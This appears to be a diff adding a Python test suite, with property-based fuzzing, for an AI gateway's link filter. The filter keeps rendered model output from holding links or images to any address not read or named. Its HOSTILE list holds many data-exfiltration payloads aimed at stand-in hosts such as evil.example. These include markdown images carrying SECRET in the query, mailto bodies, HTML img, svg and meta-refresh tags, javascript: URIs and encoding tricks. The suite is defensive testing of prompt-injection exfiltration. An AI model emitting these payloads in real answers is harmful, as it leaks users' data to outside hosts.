@@ -1,0 +1,358 @@
+"""Links of answers: whatever a model writes, no renderer makes of it a link to anything but what was read or named.
+
+Each text is filtered whole and in pieces, and every beginning of what comes out is rendered, as front ends do with
+streams: by CommonMark with HTML and tables, and then by what makes links of bare addresses in the text.
+"""
+
+from __future__ import annotations
+
+import random
+import re
+from collections.abc import Iterator
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from gateway.tools.base import Source
+from gateway.workflows.addresses import Addresses, in_markdown
+from gateway.workflows.links import LinkFilter
+
+READ, NAMED, FOUND = "https://read.example/page?x=1", "https://named.example/own", "https://found.example/hit"
+PICTURES = "pictures.example"
+_BARE = re.compile(
+    r"(?:(?:https?|ftp)://\[?|www\.)[\w-][^\s<]*"
+    r"|[\w.+-]+@[\w-]+(?:\.[\w-]+)*\.[a-z]+"
+    r"|(?<![:/\w])//(?:[\w-]+\.)+[\w-]+\S*"
+    r"|(?<![\w.-])(?:[a-z0-9-]+\.)+(?:com|org|net|edu)[/?#]\S+",
+    re.I,
+)
+
+
+def addresses() -> Addresses:
+    known = Addresses(f"Look at {NAMED} please, or write to me@named.example.")
+    known.add([Source(READ, fetched=True), Source(FOUND)])
+    return known
+
+
+def filtered(text: str, *, pieces: int = 0, **options: object) -> str:
+    link_filter = LinkFilter(addresses(), **options)  # type: ignore[arg-type]
+    if not pieces:
+        return link_filter(text) + link_filter.flush()
+    parts = (text[at : at + pieces] for at in range(0, len(text), pieces))
+    return "".join(map(link_filter, parts)) + link_filter.flush()
+
+
+def renderers() -> Iterator[MarkdownIt]:
+    yield MarkdownIt("commonmark", {"html": True})
+    yield MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+
+
+RENDERERS = list(renderers())
+
+
+def live(markdown: str) -> Iterator[tuple[str, str]]:
+    """Yield what a front end would make of a text: links, pictures, and HTML as such."""
+    for renderer in RENDERERS:
+        tokens = renderer.parse(markdown)
+        while tokens:
+            token = tokens.pop()
+            if token.type in ("html_inline", "html_block"):
+                yield "html", token.content
+            elif token.type == "link_open":
+                yield "link", str(token.attrGet("href"))
+            elif token.type == "image":
+                yield "image", str(token.attrGet("src"))
+            elif token.type == "inline":
+                # Text is joined again where escapes and entities were resolved.
+                joined = "".join(
+                    child.content if child.type in ("text", "text_special") else "\n" for child in token.children or ()
+                )
+                for found in _BARE.finditer(joined):
+                    yield "bare", found[0]
+            tokens += token.children or []
+
+
+ALLOWED = {READ, NAMED, in_markdown(READ), in_markdown(NAMED)}
+_OWN = {"me@named.example", "mailto:me@named.example"}
+
+
+def unsafe(markdown: str, *, partial: bool = False) -> list[tuple[str, str]]:
+    """Return what is live and must not be."""
+    bad = []
+    for kind, url in live(markdown):
+        bare = url.rstrip(".,;:!?*_~)\"'")
+        if kind == "link" and re.fullmatch(r"(?![A-Za-z][A-Za-z0-9+.-]*:)[^/\\?]*", url):
+            continue  # it names no host
+        if kind == "image" and url.startswith(f"https://{PICTURES}/"):
+            continue
+        if kind in ("link", "bare") and (url in ALLOWED | _OWN or bare in ALLOWED | _OWN):
+            continue
+        beginnings = (*ALLOWED, FOUND, "%5Baddress")
+        if partial and kind in ("bare", "link") and any(one.startswith((bare, url)) for one in beginnings):
+            continue  # the beginning of an address that may be shown, or of the words in place of another
+        if partial and ("@" in url or not re.match(r"(?i)\s*[a-z]+:|[/\\]{2}|<.*//", url)):
+            continue  # within a code span that is not complete yet: nothing that is loaded, and no other host
+        bad.append((kind, url))
+    return bad
+
+
+def check(text: str) -> str:
+    """Assert that nothing unsafe is live in any beginning of what is sent. Returns all of it."""
+    out = filtered(text)
+    assert not unsafe(out), (text, out, unsafe(out))
+    for size in (1, 3):
+        assert filtered(text, pieces=size) == out, (text, size)
+    for end in range(len(out)) if len(out) < 120 else range(0, len(out), len(out) // 60):
+        assert not unsafe(out[:end], partial=True), (text, out[:end])
+    return out
+
+
+EVIL = "//evil.example/?q=SECRET"
+HOSTILE = [
+    "![x](//host/?q=SECRET)",
+    f"![x]({EVIL})",
+    f"[x]({EVIL})",
+    f"[x](<{EVIL}>)",
+    f"[x](https:{EVIL} 'a title')",
+    f'[x]( \n "https:{EVIL}" )',
+    f"[x](https&#58;{EVIL})",
+    f"[x](https&colon;{EVIL})",
+    "[x](&sol;&sol;evil.example/?q=SECRET)",
+    "[x](\\/\\/evil/?q=S)",
+    f"https&#58;{EVIL}",
+    f"https&colon;{EVIL}",
+    "https:&#x2f;&#47;evil.example/?q=S",
+    f"https\\:{EVIL}",
+    "https:/\\/evil.example/x",
+    f"[x][r]\n\n[r]: {EVIL}",
+    f"[r]: {EVIL}\n\n[r] [r][] ![r] ![a][r]",
+    f"[r]:\n{EVIL}\n\n![a][r]",
+    f"> [r]:\n> {EVIL}\n\n![a][r]",
+    f"[r]: <{EVIL}> 'title'\n\n![a][r]",
+    f"- [r]: {EVIL}\n\n![r]",
+    f"![r]\n\n[r]: {READ}",
+    f"[\nr\n]: {EVIL}\n\n![r]",
+    f"<https:{EVIL}>",
+    "<HTTPS://EVIL.EXAMPLE/?q=S>",
+    "<data:text/html,x>",
+    "<javascript:alert(1)>",
+    "<me@evil.example>",
+    "<ftp://evil.example/x>",
+    f"<img src={EVIL}>",
+    f"<img src='https:{EVIL}'>",
+    f'<a href="{EVIL}">x</a>',
+    f"<picture><source srcset='{EVIL} 2x'></picture>",
+    f"<svg><image href='{EVIL}'/></svg>",
+    f'<div style="background:url({EVIL})">',
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"<!-- {EVIL} -->",
+    f"<!doctype x><?x {EVIL}?>",
+    f"<![CDATA[ {EVIL} ]]>",
+    f"<IMG\nSRC={EVIL}>",
+    f"<img/src='{EVIL}'/>",
+    f"\\<img src={EVIL}>",
+    "[x](data:text/html;base64,AAAA)",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt&colon;alert(1))",
+    "[x](vbscript:x)",
+    "[x](mailto:a@evil.example?body=SECRET)",
+    "write to SECRET@evil.example now",
+    "mailto:a@evil.example?body=SECRET",
+    "SECRET&commat;evil.example",
+    "SECRET\\@evil.example",
+    f"[![x]({EVIL})](https:{EVIL})",
+    f"[![x]({EVIL})]({READ})",
+    f"![![x]({EVIL})]({EVIL})",
+    f"[a [b] c]({EVIL})",
+    f"[a ![b]({EVIL}) c]({READ})",
+    f"[x]({READ}&q=SECRET)",
+    f"[x]({READ}#SECRET)",
+    "[x](https://SECRET@read.example/page?x=1)",
+    "[x](https://read.example/page?x=1&utm_source=SECRET)",
+    "[x](https://read.example/SECRET)",
+    f"{READ}&q=SECRET",
+    f"{READ}#SECRET",
+    "https://SECRET:x@read.example/page?x=1",
+    "[x](https://read.example.evil.example/page?x=1)",
+    "[x](https://read\u3002example/page?q=S)",
+    "[x](https://r\u0435ad.example/page?x=1)",
+    "[x](https://xn--rad-8cd.example/page?x=1)",
+    "[x](HTTPS://READ.EXAMPLE:443/page?x=1)",
+    "[x](https://read.example:8443/page?x=1)",
+    "[x](https://read.example./page?x=1)",
+    "[x](https://evil.example\\@read.example/page?x=1)",
+    "[x](https:\\\\evil.example/S)",
+    "[x](/\\evil.example/S)",
+    "[x](\\\\evil.example/S)",
+    "[x](/\t/evil.example/S)",
+    "[x](<ht\ttps://evil.example/S>)",
+    "[x](<//evil.example/a b>)",
+    "[x](//evil.example/a b)",
+    "[x](/logout?x=SECRET)",
+    "[x](?q=SECRET)",
+    "[x](../x)",
+    "[x](evil.example/S)",
+    "[x](https:evil.example)",
+    "[x](https:/evil.example)",
+    "www.evil.example/?q=S",
+    "WWW.EVIL.EXAMPLE",
+    "xwww.evil.example",
+    "xhttps://evil.example/S",
+    "evil.com/?q=SECRET",
+    "evil.com?q=SECRET",
+    "evil.com:8080/S",
+    f"see {EVIL} now",
+    f"({EVIL})",
+    "ftp://evil.example/S",
+    f"**https:{EVIL}**",
+    f"_https:{EVIL}_",
+    "h*ttps://evil.example/S*",
+    f"![](https:{EVIL})",
+    f"![x]({READ})",
+    f"![x]({NAMED})",
+    f"![x](https://{PICTURES}/x?q=S)",
+    f"!\\[x]({EVIL})",
+    f"\\![x]({EVIL})",
+    f"!\n[x]({EVIL})",
+    f"! [x]({EVIL})",
+    f"[^1]\n\n[^1]: ![x]({EVIL})",
+    f"[^1]: {EVIL}",
+    f"^[{EVIL}]",
+    f"| a | b |\n|---|---|\n| ` | ![x]({EVIL}) ` |",
+    f"| a |\n|---|\n| ![x]({EVIL}) |",
+    f"| ![x]({EVIL}) |\n|---|",
+    f"```a`b\n![x]({EVIL})",
+    f"````\n```\n![x]({EVIL})\n````\n![x]({EVIL})",
+    f"```\n``` x\n```\n![x]({EVIL})",
+    f"~~~\n```\n~~~\n![x]({EVIL})",
+    f"- ```\n![x]({EVIL})",
+    f"> ```\n![x]({EVIL})",
+    f"1. a\n   ```\n![x]({EVIL})",
+    f"   ```\n![x]({EVIL})\n```",
+    f"a\n    ![x]({EVIL})",
+    f"- a\n\n      b\n    ![x]({EVIL})",
+    f"- ```\n  x\n  ```\n![x]({EVIL})\n  ```\n![x]({EVIL})",
+    f"```\nx\n    ```\n```\n![x]({EVIL})",
+    f"\t```\n![x]({EVIL})",
+    f"```x\n```\n`![x]({EVIL})\n",
+    f"a ` b\n x ` ![x]({EVIL}) `",
+    f"`` ` ![x]({EVIL}) `",
+    f"\\` ![x]({EVIL}) `",
+    f"` {'y' * 500} ` ![x]({EVIL}) `",
+    f"[a]({READ} '`') ![x]({EVIL}) `",
+    f"<a title='`'> ![x]({EVIL}) `",
+    f"# a ` b\n` ![x]({EVIL}) `",
+    f"- a ` b\n- ` ![x]({EVIL}) ` c",
+    f"`a`` ![x]({EVIL}) `",
+    f"`![x]({EVIL})`",
+    "`![x](//host/?S)`",
+    f"`<img src={EVIL}>`",
+    f"`https:{EVIL}`",
+    f"https:{EVIL}: //x",
+    f"https:{EVIL}(//e2 )",
+    f"https:{EVIL}((//e2 )",
+    f"!https:{EVIL}\n\n[address removed]: {READ}",
+    f"https:{EVIL}: //e2.example/x",
+    f"[https:{EVIL}]({EVIL})",
+    f"{FOUND}`![x]({EVIL})`",
+    f"`a`{FOUND}`![x]({EVIL})` ![x]({EVIL}) `",
+    f"[x]({FOUND})",
+    f"<{FOUND}>",
+    f"[x]: {FOUND}\n\n[x]",
+    f"[x](\n>{EVIL})",
+    f"> [x](\n> {EVIL})",
+    f"[x]({'(' * 40}{EVIL}",
+    f"[x]({'a' * 3000}{EVIL})",
+    f"![{'a' * 600}]({EVIL})",
+    f"<https://{'a' * 3000}>",
+    f"$$\n```\n$$\n![x]({EVIL})\n```",
+    f"&lt;img src={EVIL}&gt;",
+    "[x](&#x6A;avascript:alert(1))",
+    f"[x]({EVIL}",
+    f"![x]({EVIL}",
+    f"<img src={EVIL}",
+    f"[r]: {EVIL}",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_but_what_was_read_or_named_is_live(text: str) -> None:
+    out = check(text)
+    assert "evil" not in out.lower().replace("&lt;", "") or not unsafe(out)
+
+
+PARTS = [
+    *HOSTILE[:120:3],
+    *(
+        "`",
+        "``",
+        "```",
+        "~~~",
+        "\n",
+        "\n\n",
+        "\n- ",
+        "\n> ",
+        "\n1. ",
+        "\n   ",
+        "\n    ",
+        "\t",
+        " ",
+        "|",
+        "\n|---|\n",
+        "$",
+        "$$",
+        "\\",
+        "\n```\n",
+        "\n  ```\n",
+        "\n~~~\n",
+    ),
+    *(
+        "[",
+        "]",
+        "(",
+        ")",
+        "![",
+        "](",
+        "]:",
+        "][",
+        "<",
+        ">",
+        "&#58;",
+        "&sol;",
+        "//",
+        "https://",
+        "www.",
+        ":",
+        "!",
+        "@",
+        ".",
+        "a",
+        "word",
+        '"',
+        "'",
+        "*",
+        "_",
+        "#",
+    ),
+    *("[r]", "\n[r]: ", READ, NAMED, FOUND, EVIL, "https:" + EVIL, "evil.com", "/x", "[address removed]", "[x]"),
+]
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(st.sampled_from(PARTS), max_size=10))
+def test_nothing_is_put_together_from_parts(parts: list[str]) -> None:
+    check("".join(parts))
+
+
+@pytest.mark.slow
+def test_nothing_is_put_together_from_many_parts() -> None:
+    chosen = random.Random(7)
+    for _ in range(6000):
+        text = "".join(chosen.choice(PARTS) for _ in range(chosen.randint(1, 14)))
+        out = filtered(text)
+        assert not unsafe(out), (text, out, unsafe(out))
+        assert filtered(text, pieces=chosen.randint(1, 9)) == out, text
+        for end in chosen.sample(range(len(out) + 1), min(12, len(out) + 1)):
+            assert not unsafe(out[:end], partial=True), (text, out[:end])
